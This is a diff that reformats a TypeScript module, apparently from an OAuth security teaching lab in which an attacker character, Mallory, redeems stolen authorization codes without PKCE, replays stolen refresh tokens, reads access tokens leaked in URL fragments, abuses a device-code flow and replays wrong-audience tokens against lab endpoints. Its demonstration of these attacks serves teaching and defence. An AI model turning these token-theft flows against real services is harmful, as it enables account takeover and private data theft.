@@ -18,7 +18,13 @@ export async function callbackWithMallorysCode(config: AttackerConfig): Promise<
   request.searchParams.set('client_id', config.labClientId);
   request.searchParams.set('redirect_uri', config.labRedirectUri);
   request.searchParams.set('scope', 'photos.read');
-  const answer = await authorizeAs(request.href, config.auth.internalUrl, config.mallory.username, config.mallory.password, config.httpTimeoutMs);
+  const answer = await authorizeAs(
+    request.href,
+    config.auth.internalUrl,
+    config.mallory.username,
+    config.mallory.password,
+    config.httpTimeoutMs,
+  );
   if (!answer.startsWith(`${config.labRedirectUri}?`) || !new URL(answer).searchParams.has('code')) {
     throw new Error(`The auth server did not give Mallory a code (it sent her to ${answer.slice(0, 200)}).`);
   }
@@ -36,8 +42,17 @@ export interface Redemption {
  * token endpoint as the lab's PUBLIC client (a public client has no secret to stop her). Without PKCE that is all
  * it takes; with PKCE she would need the code_verifier, which never left the victim's printer.
  */
-export async function redeemStolenCode(config: AttackerConfig, code: string, extra: { redirect_uri?: string; code_verifier?: string } = {}): Promise<Redemption> {
-  const form = new URLSearchParams({ grant_type: 'authorization_code', code, redirect_uri: extra.redirect_uri ?? config.labRedirectUri, client_id: config.labPublicClientId });
+export async function redeemStolenCode(
+  config: AttackerConfig,
+  code: string,
+  extra: { redirect_uri?: string; code_verifier?: string } = {},
+): Promise<Redemption> {
+  const form = new URLSearchParams({
+    grant_type: 'authorization_code',
+    code,
+    redirect_uri: extra.redirect_uri ?? config.labRedirectUri,
+    client_id: config.labPublicClientId,
+  });
   if (extra.code_verifier) form.set('code_verifier', extra.code_verifier);
   const response = await fetch(`${config.auth.internalUrl}/token`, {
     method: 'POST',
@@ -49,7 +64,11 @@ export async function redeemStolenCode(config: AttackerConfig, code: string, ext
   if (response.status !== 200 || typeof body.access_token !== 'string') {
     const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
     const description = typeof body.error_description === 'string' ? body.error_description : '';
-    return { success: false, summary: `The auth server refused the stolen code: ${error}.`, details: [`${error}: ${description}`] };
+    return {
+      success: false,
+      summary: `The auth server refused the stolen code: ${error}.`,
+      details: [`${error}: ${description}`],
+    };
   }
   return readPhotos(config, body.access_token, 'Mallory redeemed the stolen code and read the victim’s photo list');
 }
@@ -65,7 +84,11 @@ async function readPhotos(config: AttackerConfig, accessToken: string, what: str
     return { success: false, summary: `Drive refused her token (HTTP ${response.status}).`, details: [] };
   }
   const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
-  return { success: true, summary: `${what}: ${body.owner}’s ${titles.length} photos.`, details: [`owner: ${body.owner}`, ...titles] };
+  return {
+    success: true,
+    summary: `${what}: ${body.owner}’s ${titles.length} photos.`,
+    details: [`owner: ${body.owner}`, ...titles],
+  };
 }
 
 /**
@@ -98,7 +121,12 @@ export async function redeemAtRealServer(
   config: AttackerConfig,
   form: { code: string; redirect_uri: string; code_verifier?: string },
 ): Promise<{ status: number; body: Record<string, unknown>; redemption: Redemption }> {
-  const request = new URLSearchParams({ grant_type: 'authorization_code', code: form.code, redirect_uri: form.redirect_uri, client_id: config.labPublicClientId });
+  const request = new URLSearchParams({
+    grant_type: 'authorization_code',
+    code: form.code,
+    redirect_uri: form.redirect_uri,
+    client_id: config.labPublicClientId,
+  });
   if (form.code_verifier) request.set('code_verifier', form.code_verifier);
   const response = await fetch(`${config.auth.internalUrl}/token`, {
     method: 'POST',
@@ -109,9 +137,21 @@ export async function redeemAtRealServer(
   const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
   if (response.status !== 200 || typeof body.access_token !== 'string') {
     const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
-    return { status: response.status, body, redemption: { success: false, summary: `The real auth server refused the code: ${error}.`, details: [] } };
+    return {
+      status: response.status,
+      body,
+      redemption: { success: false, summary: `The real auth server refused the code: ${error}.`, details: [] },
+    };
   }
-  return { status: 200, body, redemption: await readPhotos(config, body.access_token, 'Evil AS received the real code and redeemed it at the real auth server') };
+  return {
+    status: 200,
+    body,
+    redemption: await readPhotos(
+      config,
+      body.access_token,
+      'Evil AS received the real code and redeemed it at the real auth server',
+    ),
+  };
 }
 
 /**
@@ -119,23 +159,38 @@ export async function redeemAtRealServer(
  * stop her), Mallory asks for fresh access tokens herself. `endpoint` is the real token endpoint or the lab copy
  * that does not rotate. Returns her result and the refresh token to use next time (a new one when it rotated).
  */
-export async function useStolenRefreshToken(config: AttackerConfig, refreshToken: string, endpoint: 'real' | 'lab'): Promise<{ redemption: Redemption; next: string }> {
+export async function useStolenRefreshToken(
+  config: AttackerConfig,
+  refreshToken: string,
+  endpoint: 'real' | 'lab',
+): Promise<{ redemption: Redemption; next: string }> {
   const path = endpoint === 'lab' ? '/lab/no-rotation/token' : '/token';
   const response = await fetch(`${config.auth.internalUrl}${path}`, {
     method: 'POST',
     headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: new URLSearchParams({ grant_type: 'refresh_token', refresh_token: refreshToken, client_id: config.labPublicClientId }).toString(),
+    body: new URLSearchParams({
+      grant_type: 'refresh_token',
+      refresh_token: refreshToken,
+      client_id: config.labPublicClientId,
+    }).toString(),
     signal: AbortSignal.timeout(config.httpTimeoutMs),
   });
   const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
   if (response.status !== 200 || typeof body.access_token !== 'string') {
     const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
     const description = typeof body.error_description === 'string' ? body.error_description : '';
-    return { redemption: { success: false, summary: `The auth server refused her refresh: ${error}.`, details: [description] }, next: refreshToken };
+    return {
+      redemption: { success: false, summary: `The auth server refused her refresh: ${error}.`, details: [description] },
+      next: refreshToken,
+    };
   }
   const next = typeof body.refresh_token === 'string' ? body.refresh_token : refreshToken;
   const rotated = next !== refreshToken;
-  const redemption = await readPhotos(config, body.access_token, `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`);
+  const redemption = await readPhotos(
+    config,
+    body.access_token,
+    `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`,
+  );
   return { redemption, next };
 }
 
@@ -154,13 +209,24 @@ export async function useLeakedAddress(config: AttackerConfig, address: string):
   const fragment = new URLSearchParams(url.hash.slice(1));
   const token = fragment.get('access_token');
   if (token) {
-    const result = await readPhotos(config, token, 'Her widget read the access token from the address (the fragment) and she used it');
+    const result = await readPhotos(
+      config,
+      token,
+      'Her widget read the access token from the address (the fragment) and she used it',
+    );
     return { ...result, details: ['Address seen by her script: …#access_token=…', ...result.details] };
   }
   const code = url.searchParams.get('code');
   if (code) {
     const tried = await redeemStolenCode(config, code, { redirect_uri: `${url.origin}${url.pathname}` });
-    return { ...tried, summary: `Her widget read a code from the address, but: ${tried.summary}`, details: ['There is no token in the address of the code flow, and the code needs the code_verifier, which never left the printer.', ...tried.details] };
+    return {
+      ...tried,
+      summary: `Her widget read a code from the address, but: ${tried.summary}`,
+      details: [
+        'There is no token in the address of the code flow, and the code needs the code_verifier, which never left the printer.',
+        ...tried.details,
+      ],
+    };
   }
   return { success: false, summary: 'Her widget found neither a token nor a code in the address.', details: [] };
 }
@@ -182,26 +248,49 @@ export async function startDeviceFlow(config: AttackerConfig): Promise<DeviceAut
     signal: AbortSignal.timeout(config.httpTimeoutMs),
   });
   const body = (await response.json()) as Partial<DeviceAuthorization>;
-  if (response.status !== 200 || typeof body.device_code !== 'string' || typeof body.user_code !== 'string' || typeof body.verification_uri !== 'string') {
+  if (
+    response.status !== 200 ||
+    typeof body.device_code !== 'string' ||
+    typeof body.user_code !== 'string' ||
+    typeof body.verification_uri !== 'string'
+  ) {
     throw new Error(`The auth server did not start a device flow (HTTP ${response.status}).`);
   }
-  return { device_code: body.device_code, user_code: body.user_code, verification_uri: body.verification_uri, expires_in: Number(body.expires_in) || 600, interval: Number(body.interval) || 5 };
+  return {
+    device_code: body.device_code,
+    user_code: body.user_code,
+    verification_uri: body.verification_uri,
+    expires_in: Number(body.expires_in) || 600,
+    interval: Number(body.interval) || 5,
+  };
 }
 
 /** One poll of the token endpoint (RFC 8628 §3.4): a result, or 'pending' / 'slow_down'. */
-export async function pollDeviceFlow(config: AttackerConfig, deviceCode: string): Promise<Redemption | 'pending' | 'slow_down'> {
+export async function pollDeviceFlow(
+  config: AttackerConfig,
+  deviceCode: string,
+): Promise<Redemption | 'pending' | 'slow_down'> {
   const response = await fetch(`${config.auth.internalUrl}/token`, {
     method: 'POST',
     headers: { 'content-type': 'application/x-www-form-urlencoded' },
-    body: new URLSearchParams({ grant_type: 'urn:ietf:params:oauth:grant-type:device_code', device_code: deviceCode, client_id: config.kioskClientId }).toString(),
+    body: new URLSearchParams({
+      grant_type: 'urn:ietf:params:oauth:grant-type:device_code',
+      device_code: deviceCode,
+      client_id: config.kioskClientId,
+    }).toString(),
     signal: AbortSignal.timeout(config.httpTimeoutMs),
   });
   const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
-  if (response.status === 200 && typeof body.access_token === 'string') return readPhotos(config, body.access_token, 'Her kiosk got a token: you approved it');
+  if (response.status === 200 && typeof body.access_token === 'string')
+    return readPhotos(config, body.access_token, 'Her kiosk got a token: you approved it');
   if (body.error === 'authorization_pending') return 'pending';
   if (body.error === 'slow_down') return 'slow_down';
   const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
-  return { success: false, summary: `Her kiosk got no token: ${error}.`, details: [typeof body.error_description === 'string' ? body.error_description : ''] };
+  return {
+    success: false,
+    summary: `Her kiosk got no token: ${error}.`,
+    details: [typeof body.error_description === 'string' ? body.error_description : ''],
+  };
 }
 
 /**
@@ -209,19 +298,31 @@ export async function pollDeviceFlow(config: AttackerConfig, deviceCode: string)
  * should, an access token made for it. She replays it at Drive: at the real API (which checks that `aud` is Drive)
  * or at Drive's lab copy that believes any audience.
  */
-export async function replayAtDrive(config: AttackerConfig, accessToken: string, drive: 'real' | 'lab'): Promise<Redemption> {
+export async function replayAtDrive(
+  config: AttackerConfig,
+  accessToken: string,
+  drive: 'real' | 'lab',
+): Promise<Redemption> {
   const path = drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos';
   const response = await fetch(`${config.drive.internalUrl}${path}`, {
     headers: { authorization: `Bearer ${accessToken}` },
     signal: AbortSignal.timeout(config.httpTimeoutMs),
   });
-  const body = (await response.json().catch(() => ({}))) as { owner?: unknown; photos?: { title?: unknown }[]; error?: unknown; error_description?: unknown };
+  const body = (await response.json().catch(() => ({}))) as {
+    owner?: unknown;
+    photos?: { title?: unknown }[];
+    error?: unknown;
+    error_description?: unknown;
+  };
   if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
     const challenge = response.headers.get('www-authenticate') ?? '';
     return {
       success: false,
       summary: `Drive refused the token (HTTP ${response.status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
-      details: [typeof body.error_description === 'string' ? body.error_description : '', challenge ? `WWW-Authenticate: ${challenge}` : ''].filter(Boolean),
+      details: [
+        typeof body.error_description === 'string' ? body.error_description : '',
+        challenge ? `WWW-Authenticate: ${challenge}` : '',
+      ].filter(Boolean),
     };
   }
   const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
